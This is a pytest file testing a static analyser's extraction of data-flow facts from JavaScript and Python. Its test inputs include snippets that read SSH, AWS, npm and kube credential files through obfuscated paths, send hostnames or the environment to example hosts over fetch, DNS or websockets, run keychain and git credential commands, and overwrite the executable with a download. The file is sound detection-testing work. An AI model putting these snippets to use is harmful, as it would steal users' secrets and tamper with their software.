"""The data flow the extractors add: implied facts and the copies carried into sinks."""

from __future__ import annotations

import pytest

from agentxray.analyze.facts.js import JsFactExtractor
from agentxray.analyze.facts.python import extract_python
from agentxray.analyze.interface import SourceUnit
from agentxray.model import Fact, FileEntry
from agentxray.rules.engine import FLOW

NEEDLES = {"call": frozenset({"exit", "writeFile", "rename", "renameSync", "createWriteStream"})}


def js_facts(src: str) -> list[Fact]:
    data = src.encode()
    unit = SourceUnit(FileEntry("a.js", "javascript", len(data), ""), data)
    return JsFactExtractor(NEEDLES).extract(unit)  # type: ignore[arg-type]


def carried(facts: list[Fact], role: str) -> set[tuple[str, str]]:
    """``(kind, value)`` of the copies carried into a sink in ``role``."""
    return {(f.kind, f.value) for f in facts if f.detail == FLOW + role}


def plain(facts: list[Fact], kind: str) -> list[str]:
    return [f.value for f in facts if f.kind == kind and not f.detail.startswith(FLOW)]


@pytest.mark.parametrize(
    ("expr", "path"),
    [
        ('path.join(os.homedir(), ".ssh", "id_rsa")', "~/.ssh/id_rsa"),
        ("`${os.homedir()}/.aws/credentials`", "~/.aws/credentials"),
        ('process.env.HOME + "/.netrc"', "~/.netrc"),
        ("join(homedir(), P)", "~/.npmrc"),
        (
            "join(homedir(), new TextDecoder().decode(Uint8Array.from([46,110,112,109,114,99])))",
            "~/.npmrc",
        ),
        (
            'join(homedir(), Buffer.from("2e6b7562652f636f6e666967", "hex").toString())',
            "~/.kube/config",
        ),
        # reversed base64 in a table, decoded by a helper (spread, split, reverse, index)
        ('join(homedir(), R(["jJHdl5mL", "x"][0]))', "~/.netrc"),
        ('join(homedir(), S("crmpn." + "x", 0, 6))', "~/.npmrc"),
        ('join(homedir(), Array.from("crmpn.").reverse().join(""))', "~/.npmrc"),
        # a helper that returns an override from the environment, else a default path
        ("where()", "~/.kube/config"),
    ],
)
def test_js_file_read_paths_are_spelled_out(expr: str, path: str) -> None:
    src = 'const os = require("os"), path = require("path"), fs = require("fs");\n'
    src += (
        'const { join } = require("path"); const { homedir } = require("os"); const P = ".npmrc";\n'
    )
    src += 'const R = (t) => Buffer.from([...t].reverse().join(""), "base64").toString("utf8");\n'
    src += 'function S(t, a, b) { return t.slice(a, b).split("").reverse().join(""); }\n'
    src += "function where() { const o = process.env.KCFG; if (o) return o.split(':')[0];\n"
    src += '  return path.join(os.homedir(), ".kube", "config"); }\n'
    src += f'fs.readFileSync({expr}, "utf8");\n'
    assert plain(js_facts(src), "file_read") == [path]


LISTED = """const fs = require("fs"), os = require("os"), path = require("path");
function stores() {
  const out = [];
  for (const name of [".npmrc", ".netrc"]) out.push(path.join(os.homedir(), name));
  return out;
}
"""


@pytest.mark.parametrize(
    "loop",
    [
        "for (const p of stores().slice(0, 4)) fs.readFileSync(p);",  # pushed, then sliced
        "for (const p of [...stores(), 'x']) fs.readFileSync(p);",  # spread into a literal
        "stores().filter(Boolean).forEach((p) => fs.readFileSync(p));",  # filtered, callback
        "for (const p of [].concat(stores())) fs.readFileSync(p);",  # concatenated
    ],
)
def test_js_paths_pushed_into_a_returned_list_are_spelled_where_read(loop: str) -> None:
    reads = plain(js_facts(LISTED + loop + "\n"), "file_read")
    assert any(".npmrc" in r and ".netrc" in r for r in reads), reads


def test_js_an_iteration_callback_that_destructures_pairs_reads_one_position() -> None:
    src = 'const fs = require("fs"), os = require("os"), path = require("path");\n'
    src += 'const T = [["a", path.join(os.homedir(), ".netrc")], ["b", ".npmrc"]];\n'
    src += "T.forEach(([name, file]) => fs.readFileSync(file));\n"
    src += "T.map(([name]) => fs.readFileSync(name));\n"
    assert plain(js_facts(src), "file_read") == ["{~/.netrc,.npmrc}", "{a,b}"]


def test_js_a_catch_clause_names_its_error_only_inside_it() -> None:
    src = 'const os = require("os");\n'
    src += "function f() { const e = os.hostname();\n"
    src += "  return new Promise((ok) => { try { ok(1); } catch (e) { ok(e); }\n"
    src += '    fetch("https://t.example.net/x", { method: "POST", body: e }); }); }\n'
    assert ("member", "os.hostname") in carried(js_facts(src), "payload")


def test_js_a_list_without_pushes_stays_unknown() -> None:
    src = LISTED.replace("out.push(path.join(os.homedir(), name))", "console.log(name)")
    reads = plain(
        js_facts(src + "for (const p of stores().slice(1)) fs.readFileSync(p);\n"), "file_read"
    )
    assert not any(".npmrc" in r for r in reads), reads


def test_js_helper_that_reads_its_argument_reads_at_each_call() -> None:
    src = 'function get(p) { try { return fs.readFileSync(p, "utf8"); } catch { return ""; } }\n'
    src += 'const t = get(path.join(os.homedir(), ".config", "gh", "hosts.yml"));\n'
    assert "~/.config/gh/hosts.yml" in plain(js_facts(src), "file_read")


def test_js_exec_facts_spell_the_command_through_promisify() -> None:
    src = 'import { execFile as x } from "node:child_process"; import { promisify as p } from "node:util";\n'
    src += 'const run = p(x);\nasync function k(s) { return (await run("security", ["find-generic-password", "-s", s, "-w"])).stdout; }\n'
    src += 'execFileSync("git", ["credential", "fill"]);\n'
    assert set(plain(js_facts(src), "exec")) == {
        "security find-generic-password -s * -w",
        "git credential fill",
    }


def test_js_payload_flows_through_variables_helpers_and_a_queue() -> None:
    src = 'const os = require("os"); const q = [];\n'
    src += "function base() { return { host: os.hostname(), p: process.platform }; }\n"
    src += "function log(e) { q.push({ e, ...base() }); }\n"
    src += 'async function flush() { await fetch("https://t.example.dev/e", { method: "POST", body: JSON.stringify(q.splice(0)) }); }\n'
    facts = js_facts(src)
    assert {("member", "os.hostname"), ("member", "process.platform")} <= carried(facts, "payload")
    assert ("url", "https://t.example.dev/e") in carried(facts, "destination")


def test_js_query_string_is_payload_and_the_path_is_destination() -> None:
    src = "fetch(`https://x.example.dev/${process.arch}/get?os=${process.platform}`);\n"
    facts = js_facts(src)
    assert ("member", "process.platform") in carried(facts, "payload")
    assert ("member", "process.arch") not in carried(facts, "payload")


def test_js_one_named_variable_is_not_the_whole_environment() -> None:
    whole = "const e = process.env; fetch(u, { body: JSON.stringify(e) });\n"
    one = 'const e = process.env; fetch(u, { headers: { p: e.HTTPS_PROXY, q: e["NO_PROXY"] } });\n'
    assert ("env_read", "*") in carried(js_facts(whole), "payload")
    assert not any(v == "*" for _k, v in carried(js_facts(one), "header"))


def test_js_secret_filter_over_the_environment_is_a_pattern_read() -> None:
    src = "const R = /(TOKEN|SECRET)/i;\n"
    src += "function s() { return Object.entries(process.env).filter(([k]) => R.test(k)); }\n"
    kept = (
        "function t() { return Object.entries(process.env).filter(([k]) => !/TOKEN/.test(k)); }\n"
    )
    assert "/(TOKEN|SECRET)/i" in plain(js_facts(src), "env_read")
    assert plain(js_facts(kept), "env_read") == ["*"]


def test_js_request_handles_dns_and_websockets_are_sinks() -> None:
    src = 'const h = require("https"), d = require("dns").promises; import W from "ws";\n'
    src += 'function a(x) { const r = h.request({ host: "c.example.dev", method: "POST" }); r.end(x); }\n'
    src += "function b(x) { d.resolve4(`${x}.z.example.dev`); }\n"
    src += (
        'function c(x) { const s = new W("wss://r.example.dev"); s.on("open", () => s.send(x)); }\n'
    )
    requests = plain(js_facts(src), "network_request")
    assert {"https.request", "https.request.end", "dns.promises.resolve4", "ws", "ws.send"} <= set(
        requests
    )


def test_js_response_gating_an_exit_and_remote_state_tested_elsewhere() -> None:
    src = "let cfg = {};\nasync function load() { cfg = await (await fetch(U)).json(); }\n"
    src += "function on() { return cfg.beta ? 1 : 0; }\n"
    src += "async function kill() { const s = await (await fetch(U)).json(); if (s.off) process.exit(1); }\n"
    facts = js_facts(src)
    gates = [f for f in facts if f.detail == FLOW + "condition"]
    assert {f.kind for f in gates} == {"network_request"}
    assert len({f.span for f in gates}) == 2  # cfg.beta in on(), and the exit in kill()


def test_js_download_written_then_renamed_over_the_executable() -> None:
    src = "async function up(u) { const o = process.execPath, t = o + '.tmp';\n"
    src += "  await writeFile(t, Buffer.from(await (await fetch(u)).arrayBuffer()));\n"
    src += "  renameSync(t, o); }\n"
    facts = js_facts(src)
    assert ("member", "process.execPath") in carried(facts, "target")
    assert ("network_request", "fetch") in carried(facts, "content")


def test_js_deep_nesting_does_not_crash() -> None:
    src = "const e = process.env; let v0 = e;\n"
    src += "".join(f"let v{i + 1} = v{i};\n" for i in range(300))
    src += "fetch(u, { body: v300 });\n" + "x" + ".a" * 3000 + ";\n"
    js_facts(src)


def test_python_paths_handles_and_helpers() -> None:
    src = "import os, socket, netrc\nfrom pathlib import Path\n"
    src += "def cfg():\n    return (Path.home() / '.kube' / 'config').read_bytes()\n"
    src += (
        "def send(h):\n    with socket.create_connection((h, 1)) as s:\n        s.sendall(cfg())\n"
    )
    src += "n = netrc.netrc(os.path.expanduser('~/.netrc'))\n"
    facts = extract_python("a.py", src)
    assert {"~/.kube/config", "~/.netrc"} <= set(plain(facts, "file_read"))
    assert ("file_read", "~/.kube/config") in carried(facts, "payload")


def test_python_secret_filter_and_exec_commands() -> None:
    src = "import os, re, subprocess\nP = re.compile(r'(KEY|TOKEN)')\n"
    src += "def c():\n    return {k: v for k, v in os.environ.items() if P.search(k)}\n"
    src += "subprocess.run(['gh', 'auth', 'token'])\n"
    facts = extract_python("a.py", src)
    assert "/(KEY|TOKEN)/" in plain(facts, "env_read")
    assert plain(facts, "exec") == ["gh auth token"]


def test_python_write_mode_open_is_not_a_read() -> None:
    src = "import os\nopen(os.path.expanduser('~/.netrc'), 'w').write('x')\n"
    assert plain(extract_python("a.py", src), "file_read") == []


def test_js_redeclared_stream_variable_ends() -> None:
    # `var out` declared twice, or declared from another declared stream: the search for what
    # is piped into it once recursed without end (RecursionError lost every fact of the file).
    src = (
        "const fs=require('fs');var out=fs.createWriteStream(a);var out=fs.createWriteStream(b);"
        "res.pipe(out);var p=fs.createWriteStream(c),q=p;var p=q;"
    )
    assert plain(js_facts(src), "call").count("fs.createWriteStream") == 3
